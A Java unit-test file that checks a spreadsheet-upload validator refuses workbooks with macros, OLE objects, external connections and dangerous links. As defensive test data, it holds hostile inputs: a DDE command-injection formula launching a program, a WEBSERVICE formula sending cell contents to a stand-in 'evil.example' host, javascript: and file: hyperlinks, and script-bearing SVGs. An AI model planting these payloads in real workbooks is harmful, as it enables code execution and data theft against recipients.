package app.upline.workbook;

import static app.upline.workbook.Fixtures.headingRow;
import static app.upline.workbook.Fixtures.parts;
import static app.upline.workbook.Fixtures.sheet;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import app.upline.workbook.WorkbookRefusedException.Reason;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What does something by itself, or holds something else, is never taken in. */
class ActiveContentTest {

  private static final String OFFICE =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
  private static final String ROW =
      "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>Keystone</t></is></c></row>";

  @TempDir Path folder;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "connections",
        "queryTable",
        "externalLink",
        "attachedTemplate",
        "oleObject",
        "package",
        "control",
        "activeXControlBinary",
        "vbaProject",
        "xlMacrosheet",
        "dialogsheet",
        "powerPivotData",
        "webextension",
        "webextensiontaskpanes",
        "extensibility",
        "userCustomization",
        "keyMapCustomizations",
        "volatileDependencies",
        "aNewKindOfThing"
      })
  void aWorkbookThatPointsToSomethingElseThanOrdinaryPartsIsRefused(String type) {
    assertRefused(
        pointing(
            "<Relationship Id=\"rId9\" Type=\"%s%s\" Target=\"thing1.xml\"/>"
                .formatted(OFFICE, type)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"image", "worksheet", "attachedTemplate", "oleObject", "pivotCacheDefinition"})
  void nothingButAHyperlinkPointsOutside(String type) {
    assertRefused(
        pointing(
            "<Relationship Id=\"rId9\" Type=\"%s%s\" Target=\"https://evil.example/x\" TargetMode=\"External\"/>"
                .formatted(OFFICE, type)),
        Reason.LINKS_ELSEWHERE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "file:///C:/x.exe",
        "FILE://server/x",
        "\\\\server\\share\\x",
        "C:\\x.exe",
        "javascript:alert(1)",
        "vbscript:x",
        "ms-excel:ofe|u|x",
        "..\\x.xlsx",
        "//server/x",
        " file:x",
        "data:text/html,x",
        "search-ms:query=x"
      })
  void aHyperlinkToAFileOrAProgramIsRefused(String target) {
    assertRefused(hyperlink(target), Reason.LINKS_ELSEWHERE);
    assertRefused(
        formula("HYPERLINK(&quot;" + target + "&quot;,&quot;here&quot;)"), Reason.LINKS_ELSEWHERE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://www.vendor.example",
        "mailto:pat@vendor.example",
        "#Data!A1",
        "www.vendor.example",
        "HTTP://x.example",
        "tel:+16025550100"
      })
  void aHyperlinkToTheWebStays(String target) throws Exception {
    assertThatCode(() -> open(hyperlink(target))).doesNotThrowAnyException();
    assertThatCode(() -> open(formula("HYPERLINK(&quot;" + target + "&quot;)")))
        .doesNotThrowAnyException();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "WEBSERVICE(&quot;https://evil.example/&quot;&amp;A2)",
        "_xlfn.WEBSERVICE(A2)",
        "_xlfn.IMAGE(A2)",
        "RTD(&quot;x&quot;,,&quot;y&quot;)",
        "1+CALL(A1)",
        "REGISTER.ID(A1)",
        "SQL.REQUEST(A1)",
        "CUBEVALUE(A1)",
        "_xlfn._xlws.PY(1)",
        "cmd|'/c calc'!A0",
        "EXEC(A1)"
      })
  void aFormulaThatFetchesSomethingIsRefused(String formula) {
    assertRefused(formula(formula), Reason.LINKS_ELSEWHERE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "RECALL(A1)",
        "SUM(A1:A2)",
        "&quot;IMAGE(x)&quot;",
        "IF(A1&gt;1,&quot;a|b&quot;,2)",
        "VLOOKUP(A1,B:C,2)"
      })
  void anyOtherFormulaStays(String formula) throws Exception {
    assertThatCode(() -> open(formula(formula))).doesNotThrowAnyException();
  }

  @ParameterizedTest
  @CsvSource({
    "xl/connections.xml, <connections/>",
    "xl/queryTables/queryTable1.xml, <queryTable/>",
    "xl/model/item.data, x",
    "customUI/customUI14.xml, <customUI/>",
    "xl/activeX/activeX1.xml, <ocx/>",
    "xl/embeddings/thing.xml, <x/>",
    "xl/webextensions/webextension1.xml, <x/>",
    "xl/media/image9.png, MZ",
    "xl/media/image9.png, #!/bin/sh",
    "xl/media/image9.png, X5O!P%@AP",
    "xl/media/image9.jpeg, <html>",
    "xl/printerSettings/printerSettings1.bin, MZ",
    "xl/thing.bin, whatever",
    "xl/media/image1.svg, <svg><script>x</script></svg>",
    "xl/media/image1.svg, <svg onload='x'/>",
    "xl/media/image1.svg, <svg><image href='https://evil.example/x'/></svg>",
    "xl/pivotCache/pivotCacheDefinition1.xml, <pivotCacheDefinition><cacheSource"
        + " type='external'/></pivotCacheDefinition>"
  })
  void aPartThatNobodyPointsToIsRefusedForWhatItIs(String name, String content) {
    Map<String, String> parts = parts(sheet(headingRow() + ROW));
    parts.put(name, content);
    assertRefused(parts);
  }

  @Test
  void aTypeOfContentThatFetchesSomethingIsRefusedWhateverThePartIsCalled() {
    for (String type :
        List.of("spreadsheetml.connections+xml", "spreadsheetml.queryTable+xml", "oleObject")) {
      Map<String, String> parts = parts(sheet(headingRow() + ROW));
      parts.computeIfPresent(
          "[Content_Types].xml",
          (name, xml) ->
              xml.replace(
                  "</Types>",
                  "<Override PartName=\"/xl/x.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.%s\"/></Types>"
                      .formatted(type)));
      assertRefused(parts);
    }
  }

  @Test
  void picturesAndPrinterSettingsStay() throws Exception {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    parts(sheet(headingRow() + ROW))
        .forEach((name, xml) -> parts.put(name, xml.getBytes(StandardCharsets.UTF_8)));
    parts.put("xl/media/image1.png", new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0});
    parts.put(
        "xl/media/image2.jpeg", new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0});
    parts.put(
        "xl/media/image3.svg",
        "<svg><path d=\"M0\"/><use href=\"#a\"/></svg>".getBytes(StandardCharsets.UTF_8));
    parts.put("xl/printerSettings/printerSettings1.bin", new byte[] {'H', 0, 'P', 0});
    Path file = Fixtures.file(folder, Fixtures.zipBytes(parts));
    assertThatCode(() -> Workbook.open(file, WorkbookLimits.defaults()).close())
        .doesNotThrowAnyException();
  }

  @Test
  void theStylesOfAMarkedCopyHaveTheirUsualNameWhereItIsFree() throws Exception {
    Map<String, String> parts = parts(sheet(headingRow() + ROW));
    assertThat(marked(parts)).containsKey("xl/styles.xml");
    parts.put("xl/styles.xml", "<somethingElse/>");
    assertThat(marked(parts)).containsKey("xl/styles1.xml");
  }

  @Test
  void textThatBeginsLikeAFormulaStaysTextInAMarkedCopy() throws Exception {
    String styles =
        new String(
            marked(parts(sheet(headingRow() + ROW))).get("xl/styles.xml"), StandardCharsets.UTF_8);
    assertThat(styles).contains("quotePrefix=\"1\"");
  }

  /**
   * Not active: it calculates what is in the workbook, of which nothing fetches anything. A copy
   * that did not, or did where the workbook does not, would show other values than the workbook.
   */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<calcPr calcId=\"191029\" fullCalcOnLoad=\"1\"/>",
        "<calcPr calcId=\"191029\" calcMode=\"manual\"/>",
        ""
      })
  void whenAMarkedCopyIsCalculatedIsAsInTheWorkbook(String properties) throws Exception {
    Map<String, String> parts = parts(sheet(headingRow() + ROW));
    parts.computeIfPresent(
        "xl/workbook.xml", (name, xml) -> xml.replace("</workbook>", properties + "</workbook>"));

    String workbook = new String(marked(parts).get("xl/workbook.xml"), StandardCharsets.UTF_8);

    assertThat(workbook).contains("Upload errors").contains(properties);
    assertThat(workbook.split("calcPr", -1)).hasSize(properties.isEmpty() ? 1 : 2);
  }

  @Test
  void aMarkedCellKeepsTheQuoteThatItHad() throws Exception {
    Map<String, String> parts = parts(sheet(headingRow() + ROW.replace("<c r=", "<c s=\"1\" r=")));
    parts.put(
        "xl/styles.xml",
        StyleMarks.NONE.replace(
            "</cellXfs>",
            "<xf numFmtId=\"49\" fontId=\"0\" fillId=\"0\" borderId=\"0\""
                + " quotePrefix=\"1\"/></cellXfs>"));
    parts.computeIfPresent(
        "xl/_rels/workbook.xml.rels",
        (name, xml) ->
            xml.replace(
                "</Relationships>",
                "<Relationship Id=\"rId2\" Type=\"%sstyles\" Target=\"styles.xml\"/></Relationships>"
                    .formatted(OFFICE)));
    String styles = new String(marked(parts).get("xl/styles.xml"), StandardCharsets.UTF_8);

    // The style itself, its red twin, and that of the list of errors.
    assertThat(styles.split("quotePrefix=\"1\"", -1)).hasSize(4);
  }

  private Map<String, byte[]> marked(Map<String, String> parts) throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    WorkbookMarker.mark(
        Fixtures.file(folder, Fixtures.zip(parts)),
        List.of(new CellMark("Data", "A2", "=1+1 is no name")),
        out);
    return Fixtures.unzip(out.toByteArray());
  }

  private static Map<String, String> pointing(String relationship) {
    Map<String, String> parts = parts(sheet(headingRow() + ROW));
    parts.computeIfPresent(
        "xl/_rels/workbook.xml.rels",
        (name, xml) -> xml.replace("</Relationships>", relationship + "</Relationships>"));
    return parts;
  }

  private static Map<String, String> hyperlink(String target) {
    Map<String, String> parts = parts(sheet(headingRow() + ROW));
    parts.put(
        "xl/worksheets/_rels/sheet1.xml.rels",
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"%shyperlink\" Target=\"%s\" TargetMode=\"External\"/></Relationships>"
            .formatted(OFFICE, target));
    return parts;
  }

  private static Map<String, String> formula(String formula) {
    return parts(
        sheet(
            headingRow()
                + "<row r=\"2\"><c r=\"A2\" t=\"str\"><f>%s</f><v>x</v></c></row>"
                    .formatted(formula)));
  }

  private void open(Map<String, String> parts) throws Exception {
    Workbook.open(Fixtures.file(folder, Fixtures.zip(parts)), WorkbookLimits.defaults()).close();
  }

  private void assertRefused(Map<String, String> parts) {
    assertThatThrownBy(() -> open(parts)).isInstanceOf(WorkbookRefusedException.class);
  }

  private void assertRefused(Map<String, String> parts, Reason reason) {
    assertThatThrownBy(() -> open(parts))
        .isInstanceOfSatisfying(
            WorkbookRefusedException.class,
            refusal -> assertThat(refusal.reason()).isEqualTo(reason));
  }
}
